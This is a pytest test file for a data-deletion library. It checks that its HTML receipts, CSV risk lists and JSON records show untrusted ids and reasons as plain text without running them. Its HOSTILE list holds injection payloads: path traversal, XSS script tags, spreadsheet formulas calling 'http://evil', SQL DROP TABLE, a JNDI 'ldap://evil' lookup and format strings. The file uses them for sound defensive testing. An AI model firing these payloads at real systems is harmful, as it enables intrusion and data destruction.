"""The page and the list of risks: whatever an id, a reason or a reference holds, it is shown and never run."""

import csv
import io
import json
import re
import shutil
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from small_project import ERASE, HALVE, LENIENT, QUICK, SIZES, Memory, ids, project

import regun
from expect import assert_names
from regun.deletion import Options
from regun.deletion.receipt_text import page

HOSTILE = [
    "../../../etc/passwd",
    "/tmp/x",
    "..\\..\\boot.ini",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil\",\"x\")",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "'; DROP TABLE ids; --",
    "${jndi:ldap://evil}",
    "{0.__class__}",
    "%s%s%n",
    "a\nb",
    "ledger.jsonl",
    "\u202egnp.exe",
    "😀" * 20,
]  # fmt: skip


class Reader(HTMLParser):
    """The tags and attributes of a page, and its visible text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.shown = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_endtag(self, tag: str) -> None:
        self.shown += " " if tag in ("td", "th") else ""

    def handle_data(self, data: str) -> None:
        self.shown += data


TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div", "section", "span", "b"} | {
    "table", "tr", "th", "td", "ul", "li", "code",
}  # fmt: skip
ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "class", "name"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile") / "out"
    names = [*HOSTILE, *(f"plain-{n}" for n in range(SIZES["train"] - len(HOSTILE)))]
    asked = regun.deletion.DeletionRequest(
        tuple(regun.deletion.RequestedRecord(one, reason=one, requester=one) for one in HOSTILE)
    )
    regun.forget(project(ids=names, unseen_ids={}, method=QUICK), asked, out, LENIENT)
    return out


def test_nothing_is_written_but_what_belongs_there(hostile: Path) -> None:
    found = {str(p.relative_to(hostile.parent)) for p in hostile.parent.rglob("*") if p.is_file()}
    names = ("model.safetensors", "receipt.html", "receipt.json", "request.json", "risks.csv")
    top = {f"out/{name}" for name in ("ledger.jsonl", ".regun-lock", "current.safetensors")}
    assert found == top | {f"out/requests/0001/{name}" for name in names}


def test_the_page_runs_nothing_and_loads_nothing(hostile: Path) -> None:
    text = (hostile / "requests/0001/receipt.html").read_text()
    reader = Reader(text)
    assert reader.tags <= TAGS
    assert reader.attributes <= ATTRIBUTES
    assert 'http-equiv="Content-Security-Policy" content="default-src \'none\'; style' in unescape(text)
    assert not re.search(r"https?:|src=|@import|url\(", text.replace(HOSTILE[5], ""))
    assert "<script>alert(1)" in reader.shown
    assert "<script" not in text


@settings(deadline=None, max_examples=50)
@given(st.text(max_size=80), st.text(max_size=80))
def test_any_text_is_shown_as_text(hostile: Path, one: str, other: str) -> None:
    receipt = json.loads((hostile / "requests/0001/receipt.json").read_text())
    receipt["request"]["first_ids"][0] = one
    receipt["request"]["reasons"]["most_common"][0][0] = other
    receipt["model"]["class"] = receipt["acceptance"]["rule"] = receipt["limits"][0] = receipt["letter"] = one
    receipt["acceptance"]["findings"][0]["why"] = receipt["method"]["attempts"][0]["spec"] = other
    reader = Reader(page(receipt))
    assert reader.tags <= TAGS
    assert reader.attributes <= ATTRIBUTES


WIDER = """() => [...document.querySelectorAll("body *")].filter((e) => !e.closest(".scroll")
  && e.getBoundingClientRect().right > innerWidth + 1).map((e) => `${e.tagName}: ${e.textContent.slice(0, 60)}`)"""


def test_the_page_fits_a_phone_and_two_sheets_of_paper(hostile: Path, officer: Path) -> None:
    api = pytest.importorskip("playwright.sync_api", reason="needs Python's playwright")
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if chromium is None:
        pytest.skip("needs Chromium on the PATH")
    with api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page(viewport={"width": 360, "height": 800})
        page.goto((hostile / "requests/0001/receipt.html").as_uri())
        assert page.evaluate(WIDER) == []
        assert page.evaluate("getComputedStyle(document.querySelector('h1 span')).color") == "rgb(255, 255, 255)", (
            "the policy lets the page's own style through"
        )
        printed = page.pdf(prefer_css_page_size=True)
        page.goto((officer / "requests/0002/receipt.html").as_uri())
        assert page.evaluate(WIDER) == []
        printed += page.pdf(prefer_css_page_size=True)
        browser.close()
    assert len(re.findall(rb"/Type\s*/Page\b", printed)) <= 4


@pytest.fixture(scope="module")
def officer(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A request as an officer would file it, the second of its folder, not accepted at first."""
    out = tmp_path_factory.mktemp("officer") / "out"
    given = {"model": Memory(), "rebuild": lambda seed: Memory(0.0, seed), "derived": ["recommender v3"]}
    asked = regun.DeletionRequest.of(
        ids()[:20], reason="Art. 17", requester="T-1", received="2024-01-31", due="2024-02-20"
    )
    options = Options(role="Data protection office, Example Ltd", bootstrap=20)
    for method in (HALVE, ERASE):
        regun.forget(project(method=method, **given), asked, out, options)
    return out


def test_an_officer_finds_what_has_to_be_filed(officer: Path) -> None:
    shown = " ".join(Reader((officer / "requests/0002/receipt.html").read_text()).shown.split())
    stored = json.loads((officer / "requests/0002/receipt.json").read_text())
    dates = stored["request"]["dates"]
    assert (dates["received"], dates["due"]) == ("2024-01-31", "2024-02-20")
    assert dates["days_late"] > 300
    assert_names(shown, "2024-01-31", "2024-02-20", dates["done"], f"{dates['days_late']:,}")
    for text in ("Data protection office, Example Ltd", "recommender v3", "empirical", "rejected", "heldout"):
        assert text in shown, text
    assert stored["request"]["tried_before"] == {"rejected": 1}
    assert_names(stored["letter"], dates["done"])
    assert "Data protection office, Example Ltd" in stored["letter"]
    assert (
        stored["model"]["in_this_folder"][0]["weights"]
        == json.loads((officer / "requests/0001/receipt.json").read_text())["ledger"]["after"]
    )


def test_a_letter_about_a_rejected_request_names_the_due_date(officer: Path) -> None:
    stored = json.loads((officer / "requests/0001/receipt.json").read_text())
    assert_names(stored["letter"], "2024-02-20", stored["request"]["dates"]["done"])


def test_a_spreadsheet_shows_ids_and_runs_none(hostile: Path) -> None:
    rows = list(csv.reader(io.StringIO((hostile / "requests/0001/risks.csv").read_bytes().decode(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@")]
    assert {row[0].removeprefix("'") if row[0][1:2] in "=+-@\t" else row[0] for row in rows[1:]} == set(HOSTILE)


def test_ids_are_kept_whole_where_machines_read_them(hostile: Path) -> None:
    stored = json.loads((hostile / "requests/0001/request.json").read_text())
    assert [line["id"] for line in stored["records"]] == HOSTILE
    assert [line["reason"] for line in stored["records"]] == HOSTILE


def test_a_long_request_is_shown_in_part(tmp_path: Path) -> None:
    asked = regun.deletion.DeletionRequest(
        tuple(regun.deletion.RequestedRecord(one, "r" * 900, f"ticket {one}" * 50) for one in ids()[:100])
    )
    done = regun.forget(project(method=QUICK), asked, tmp_path, LENIENT)
    shown = Reader((tmp_path / "requests/0001/receipt.html").read_text()).shown
    assert "and 96 more" in shown
    assert "and 98 others" in shown
    assert "r" * 39 in shown
    assert "r" * 40 not in shown
    assert done.receipt["request"]["requesters"]["different"] == 100
